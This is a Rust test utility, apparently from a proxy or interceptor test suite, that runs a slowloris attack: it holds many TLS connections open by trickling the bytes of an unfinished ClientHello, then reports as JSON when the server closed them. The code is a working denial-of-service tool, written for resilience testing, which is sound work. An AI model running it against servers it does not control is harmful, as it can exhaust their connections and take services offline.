//! A slowloris client: `slowloris ADDR N SECS` opens N connections to ADDR and sends each the
//! start of a ClientHello one byte per second, for SECS seconds. Prints `opened` once all are
//! open, then one JSON line: how many the server closed, after how long (min, p50, max
//! seconds), and how many were still open at the end.

use std::io::{ErrorKind, Read, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

/// A TLS record header (handshake, length 512), a ClientHello header (length 508), TLS 1.2,
/// then random bytes: a hello that is never finished.
const HELLO_START: [u8; 11] = [
    0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03,
];

fn main() -> anyhow::Result<()> {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let [addr, n, secs] = args.as_slice() else {
        anyhow::bail!("usage: slowloris ADDR N SECS");
    };
    let (n, secs): (usize, u64) = (n.parse()?, secs.parse()?);
    interceptor_tests::raise_fd_limit();
    let mut conns: Vec<(TcpStream, Instant, Option<Duration>)> = Vec::with_capacity(n);
    for _ in 0..n {
        let s = TcpStream::connect(addr)?;
        s.set_nonblocking(true)?;
        conns.push((s, Instant::now(), None));
    }
    println!("opened {n}");
    std::io::stdout().flush()?;
    let end = Instant::now() + Duration::from_secs(secs);
    let mut sent = 0usize;
    while Instant::now() < end {
        let byte = HELLO_START.get(sent).copied().unwrap_or(0x42);
        sent += 1;
        for (s, opened, closed) in conns.iter_mut().filter(|c| c.2.is_none()) {
            let mut b = [0u8; 64];
            let gone = match s.read(&mut b) {
                Ok(0) => true,
                Ok(_) => false,
                Err(e) if e.kind() == ErrorKind::WouldBlock => false,
                Err(_) => true,
            } || s.write(&[byte]).is_err();
            if gone {
                *closed = Some(opened.elapsed());
            }
        }
        std::thread::sleep(Duration::from_secs(1));
    }
    let mut after: Vec<f64> = conns
        .iter()
        .filter_map(|c| c.2.map(|d| d.as_secs_f64()))
        .collect();
    after.sort_by(f64::total_cmp);
    let at = |q: f64| {
        after
            .get(((after.len() as f64 - 1.0) * q).round() as usize)
            .copied()
            .unwrap_or(0.0)
    };
    println!(
        "{}",
        serde_json::json!({
            "opened": n,
            "closed_by_server": after.len(),
            "closed_after_s": {"min": at(0.0), "p50": at(0.5), "max": at(1.0)},
            "open_at_end": n - after.len(),
        })
    );
    Ok(())
}
